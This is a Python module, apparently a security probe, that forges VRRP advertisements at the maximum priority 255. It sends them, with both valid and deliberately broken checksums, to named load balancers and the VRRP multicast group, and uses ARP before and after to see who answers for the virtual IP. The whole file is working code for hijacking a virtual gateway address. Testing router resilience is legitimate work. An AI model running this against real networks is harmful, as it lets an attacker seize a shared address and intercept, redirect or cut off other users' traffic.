"""A stranger's VRRP advertisements of priority 255, and who then answers for the virtual address."""

import socket
import struct
import time
from pathlib import Path
from typing import Any

VRRP = 112
GROUP = "224.0.0.18"
HIGHEST = 255


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(source: str, target: str, router: int, address: str, interval_cs: int, *, right: bool) -> bytes:
    """RFC 5798, section 5.2; the checksum covers a pseudo header (5.2.8)."""
    head, tail = struct.pack("!BBBBH", 0x31, router, HIGHEST, 1, interval_cs), socket.inet_aton(address)
    length = len(head) + 2 + len(tail)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, VRRP, length)
    sum_ = checksum(pseudo + head + b"\0\0" + tail)
    return head + struct.pack("!H", sum_ if right else sum_ ^ 0x5555) + tail


def who_answers(interface: str, source: str, address: str) -> list[str]:
    """The hardware addresses that answer ARP requests for `address` within half a second."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as wire:
        wire.bind((interface, 0x0806))
        own = bytes.fromhex(Path(f"/sys/class/net/{interface}/address").read_text(encoding="ascii").replace(":", ""))
        asked = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + own + socket.inet_aton(source)
        asked += b"\0" * 6 + socket.inet_aton(address)
        wire.send(b"\xff" * 6 + own + b"\x08\x06" + asked)
        found = set()
        end = time.monotonic() + 0.5
        while (left := end - time.monotonic()) > 0:
            wire.settimeout(left)
            try:
                frame = wire.recv(64)
            except TimeoutError:
                break
            if frame[28:32] == socket.inet_aton(address):
                found.add(frame[22:28].hex(":"))
    return sorted(found)


def answer(
    interface: str, source: str, balancers: list[str], router: int, address: str, interval_cs: int, seconds: float
) -> dict[str, Any]:
    packets = [
        (target, advertisement(source, target, router, address, interval_cs, right=right))
        for target in [*balancers, GROUP]
        for right in (True, False)
    ]
    before = who_answers(interface, source, address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP) as wire:
        wire.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        wire.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        wire.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
        wire.bind((source, 0))
        end, sent = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            for target, packet in packets:
                wire.sendto(packet, (target, 0))
                sent += 1
            time.sleep(0.02)
    return {"sent": sent, "before": before, "after": who_answers(interface, source, address)}
